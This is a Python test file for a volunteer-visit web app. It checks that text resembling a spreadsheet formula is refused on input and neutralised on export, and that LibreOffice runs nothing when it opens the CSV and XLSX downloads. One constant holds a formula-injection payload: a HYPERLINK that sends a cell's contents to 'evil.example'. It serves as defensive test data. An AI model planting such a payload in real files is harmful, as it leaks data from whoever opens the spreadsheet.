"""What coordinators open in a spreadsheet: no text runs as a formula, whether it comes from
the package's CSV, a workbook or the yearly CSV. LibreOffice (headless) is the real client
where it is installed."""

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import datetime

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
from sqlalchemy import select
from support import visit_form
from test_handover import (
    do_import,
    export_bytes,
    fresh_instance,
    rewrite,
    second_line,
    tables_of,
)

from jobatelier.extensions import db
from jobatelier.handover.package import PackageError
from jobatelier.models import HelpType, Location, Visit

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
needs_libreoffice = pytest.mark.skipif(
    SOFFICE is None, reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")

# A link to anywhere, the attack the issue found: LibreOffice ran it on opening visits.csv.
LINK = '=HYPERLINK("http://evil.example/?"&A2;"Open de handleiding")'
STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "  =1+1"]


def converted(path, target: str, outdir) -> bytes:
    """`path` opened and saved by LibreOffice as `target` (xlsx, ods, pdf...), as a person's
    double-click and "save as" would."""
    subprocess.run([SOFFICE, "--headless", f"-env:UserInstallation=file://{outdir}/profile",
                    "--convert-to", target, "--outdir", str(outdir), str(path)],
                   check=True, capture_output=True, timeout=180)
    return (outdir / f"{path.stem}.{target.split(':')[0]}").read_bytes()


def formulas_in(workbook: bytes) -> list:
    book = load_workbook(io.BytesIO(workbook))
    return [(sheet.title, cell.coordinate, cell.value) for sheet in book
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.fixture
def old_note(lier):
    """A note stored before the app refused text that starts like a formula."""
    db.session.add(Visit(location_id=lier.id, arrived_at=datetime(2022, 3, 1, 10), note=LINK))
    db.session.commit()


@pytest.mark.parametrize("start", STARTS)
def test_a_note_that_starts_like_a_formula_is_refused(as_volunteer, start):
    page = as_volunteer.post("/visits/new", data=visit_form(note=f"{start} koffie"))
    assert "Begin met een letter of cijfer" in page.get_data(as_text=True)
    assert db.session.scalar(select(Visit)) is None


@pytest.mark.parametrize(("url", "field"), [
    ("/admin/locations/new", "name"), ("/admin/locations/new", "municipality"),
    ("/admin/locations/new", "organisation"), ("/admin/help-types/new", "label_nl"),
    ("/admin/help-types/new", "label_fr"), ("/admin/help-types/new", "label_en"),
])
def test_names_and_labels_that_start_like_a_formula_are_refused(client, auth, admin, url,
                                                                 field):
    auth.login(admin)
    form = {"code": "evil", "name": "Evil", "municipality": "Lier", "kind": "jobatelier",
            "label_nl": "Evil", field: "=1+1"}
    page = client.post(url, data=form).get_data(as_text=True)
    assert "Begin met een letter of cijfer" in page
    assert db.session.scalar(select(Location).where(Location.code == "evil")) is None
    assert db.session.scalar(select(HelpType).where(HelpType.code == "evil")) is None


@pytest.mark.parametrize(("file", "column", "field"), [
    ("visits.csv", 5, "note"), ("locations.csv", 1, "name"), ("help_types.csv", 2, "label_fr")])
def test_the_import_refuses_a_cell_that_starts_like_a_formula(lier, file, column, field):
    db.session.add(Visit(location_id=lier.id, arrived_at=datetime(2022, 3, 1, 10), note="cv"))
    db.session.commit()

    def formula(line):
        cells = next(csv.reader([line]))
        cells[column] = "=1+1"
        out = io.StringIO()
        csv.writer(out, lineterminator="").writerow(cells)
        return out.getvalue()

    package = rewrite(export_bytes(with_notes=True), replace={file: second_line(formula)})
    fresh_instance()
    with pytest.raises(PackageError, match=f"{file}, rij 2, veld {field}: Begin met een"):
        do_import(package)


def test_old_text_leaves_with_an_apostrophe_and_comes_back_as_it_left(old_note):
    package = export_bytes(with_notes=True)
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        visits = list(csv.DictReader(io.TextIOWrapper(archive.open("visits.csv"), "utf-8")))
    assert [visit["note"] for visit in visits] == ["'" + LINK]
    again = do_import(package)  # into this instance: the same visit, nothing to change
    assert again.tables["visits"].skipped == 1 and not again.conflicts
    fresh_instance()
    do_import(package)
    assert tables_of(export_bytes(with_notes=True)) == tables_of(package)


@needs_libreoffice
def test_libreoffice_runs_nothing_in_the_packages_visits(old_note, tmp_path):
    with zipfile.ZipFile(io.BytesIO(export_bytes(with_notes=True))) as archive:
        archive.extract("visits.csv", tmp_path)
    workbook = converted(tmp_path / "visits.csv", "xlsx", tmp_path)
    assert formulas_in(workbook) == []
    notes = [row[5] for row in load_workbook(io.BytesIO(workbook)).active.iter_rows(
        min_row=2, values_only=True)]
    assert notes == ["'" + LINK]


@pytest.fixture
def old_name(lier, coordinator):
    """A location named before the rule, with a visit in 2022."""
    lier.name = LINK
    db.session.add(Visit(location_id=lier.id, arrived_at=datetime(2022, 3, 1, 10)))
    db.session.commit()


def test_the_yearly_downloads_run_nothing(client, auth, coordinator, old_name):
    auth.login(coordinator)
    rows = list(csv.reader(io.StringIO(client.get("/reports/yearly.csv?year=2022").get_data(
        as_text=True))))
    assert rows[1][1] == "'" + LINK
    assert formulas_in(client.get("/reports/yearly.xlsx?year=2022").data) == []


@needs_libreoffice
def test_libreoffice_runs_nothing_in_the_yearly_csv(client, auth, coordinator, old_name,
                                                    tmp_path):
    auth.login(coordinator)
    download = tmp_path / "yearly.csv"
    download.write_bytes(client.get("/reports/yearly.csv?year=2022").data)
    assert formulas_in(converted(download, "xlsx", tmp_path)) == []


def test_the_yearly_csv_is_rfc_4180_and_names_its_charset_once(client, auth, coordinator,
                                                                old_name):
    auth.login(coordinator)
    answer = client.get("/reports/yearly.csv?year=2022")
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Type"].count("charset") == 1
    assert answer.mimetype_params == {"charset": "utf-8", "header": "present"}
    body = answer.data
    assert not body.startswith(b"\xef\xbb\xbf") and body.count(b"\r\n") == 3  # header, 2 rows
    assert body.split(b"\r\n")[0].startswith(b"location_code,location_name,year,")


def test_the_page_offers_the_workbook_first_for_spreadsheets(client, auth, coordinator,
                                                              old_name):
    auth.login(coordinator)
    page = client.get("/reports/yearly?year=2022").get_data(as_text=True)
    assert page.index("yearly.xlsx") < page.index("yearly.csv")
    assert page.index("Downloaden voor Excel of een ander rekenblad (.xlsx)") < page.index(
        "CSV voor programma's (RFC 4180)")


def test_the_workbook_holds_numbers_whatever_the_pcs_decimal_sign(client, auth, coordinator,
                                                                  old_name, lier):
    # Enough visitors that the published counts are shown, not "< 5".
    db.session.add_all(Visit(location_id=lier.id, arrived_at=datetime(2022, 3, 2, 10))
                       for _ in range(6))
    db.session.commit()
    auth.login(coordinator)
    book = load_workbook(io.BytesIO(client.get("/reports/yearly.xlsx?year=2022").data))
    sheet = book.active
    header = [code for sheet, _, code in book["Codeboek"].iter_rows(min_row=2, values_only=True)
              if sheet == "2022"]
    total = [cell for cell in sheet[3]]
    assert total[header.index("unique_visitors")].data_type == "n"
    assert isinstance(total[header.index("visits")].value, int)


PDFTOTEXT = shutil.which("pdftotext")


def check_print_layout(workbook: bytes) -> None:
    """Every sheet: every used column has its width, landscape, one page wide, the header
    row on every page."""
    for sheet in load_workbook(io.BytesIO(workbook)):
        for number in range(1, sheet.max_column + 1):
            assert sheet.column_dimensions[get_column_letter(number)].customWidth, \
                (sheet.title, number)
        setup = sheet.page_setup
        assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0)
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title


def printed_text(workbook: bytes, tmp_path) -> str:
    """The workbook printed to PDF by LibreOffice, as text."""
    path = tmp_path / "book.xlsx"
    path.write_bytes(workbook)
    (tmp_path / "book.pdf").write_bytes(converted(path, "pdf", tmp_path))
    return subprocess.run([PDFTOTEXT, "-layout", str(tmp_path / "book.pdf"), "-"], check=True,
                          capture_output=True, text=True, timeout=60).stdout


@pytest.fixture
def handover_workbook(client, auth, coordinator, lier):
    db.session.add_all(Visit(location_id=lier.id, arrived_at=datetime(2022, 3, day, 10, 30),
                             duration_minutes=45, note="cv nagelezen " * 8)
                       for day in range(1, 29))
    db.session.commit()
    auth.login(coordinator)
    return client.post("/export", data={"format": "xlsx", "with_notes": "y"}).data


@pytest.fixture
def yearly_workbook(client, auth, coordinator, old_name):
    auth.login(coordinator)
    return client.get("/reports/yearly.xlsx?year=2022").data


def test_the_handover_workbook_prints_every_sheet_one_page_wide(handover_workbook):
    check_print_layout(handover_workbook)
    visits = load_workbook(io.BytesIO(handover_workbook))["Bezoeken"]
    arrived = [cell.value for cell in visits[1]].index("arrived_at") + 1
    assert visits.column_dimensions[get_column_letter(arrived)].width >= len(
        "2022-03-01 10:30:00")


def test_the_yearly_workbook_prints_every_sheet_one_page_wide(yearly_workbook):
    check_print_layout(yearly_workbook)


@needs_libreoffice
@pytest.mark.skipif(PDFTOTEXT is None, reason="pdftotext is not installed (poppler-utils)")
@pytest.mark.parametrize(("workbook", "heading"), [
    ("handover_workbook", "arrived_at"), ("yearly_workbook", "positive_rate_known")])
def test_libreoffice_prints_every_value_whole(request, workbook, heading, tmp_path):
    text = printed_text(request.getfixturevalue(workbook), tmp_path)
    assert "###" not in text  # what a spreadsheet prints for a date or number too wide
    assert heading in text  # not cut off at the column's edge
